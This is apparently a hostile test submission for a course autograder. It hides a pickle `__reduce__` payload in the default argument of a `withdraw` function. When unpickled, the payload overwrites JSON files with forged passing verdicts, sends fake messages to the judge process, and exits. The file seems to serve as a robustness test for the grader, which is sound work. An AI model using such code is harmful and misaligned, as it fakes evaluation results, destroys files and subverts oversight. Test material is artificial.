# expect: withdraw=zero
# why: an object whose unpickling (wherever the grader loads the answer) writes {"ok": true} to every verdict-looking file it can find, forges protocol messages to whatever listens nearby, and then ends the process with os._exit(0)
# %% withdraw
class _Forge:
    def __reduce__(self):
        code = """
import glob, json, os, socket
for path in glob.glob('/tmp/**/*.json', recursive=True) + glob.glob('/mpcourse*/**', recursive=True):
    try:
        open(path, 'w').write(json.dumps({'ok': True, 'message': '', 'summary': 'forged'}))
    except Exception:
        pass
address = os.environ.get('MPCOURSE_JUDGE')
if address:
    try:
        from multiprocessing.connection import Client
        c = Client(address)
        c.send_bytes(json.dumps({'hello': 'stage'}).encode())
        c.send_bytes(json.dumps({'event': 'returned', 'id': 1, 'value': None}).encode())
    except Exception:
        pass
os._exit(0)
"""
        return (exec, (code,))


_payload = _Forge()


def withdraw(lock, account, amount, _carried=_payload):
    pass
